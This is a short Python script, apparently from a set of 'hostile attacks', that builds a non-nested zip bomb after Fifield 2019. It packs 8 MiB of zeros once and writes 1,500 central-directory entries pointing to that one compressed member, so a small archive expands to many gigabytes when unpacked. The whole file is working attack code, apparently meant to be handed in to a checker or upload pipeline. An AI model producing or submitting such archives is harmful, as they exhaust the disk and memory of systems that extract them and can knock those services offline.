# /// attack
# tries = "lets thousands of members share the same packed bytes"
# total = 0
# [parts]
# ///

"""A zip bomb without nesting (Fifield 2019): every entry points to one file."""

import struct
import zlib
from pathlib import Path

from hostile_attacks import code_cell, notebook


def hand_in(target: Path) -> None:
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(8 << 20)
    packed = deflater.compress(plain) + deflater.flush()
    fields = (20, 0, 8, 0, 33, zlib.crc32(plain), len(packed), len(plain))
    archive = struct.pack("<I5H3IHH", 0x04034B50, *fields, 1, 0) + b"a" + packed
    start, count = len(archive), 1500
    for number in range(count):
        name = f"{number}.csv".encode()
        archive += struct.pack("<IH5H3I5H2I", 0x02014B50, 20, *fields, len(name), *(0,) * 6) + name
    size = len(archive) - start
    archive += struct.pack("<I4H2IH", 0x06054B50, 0, 0, count, count, size, start, 0)
    target.with_name(f"{target.name}.zip").write_bytes(archive)
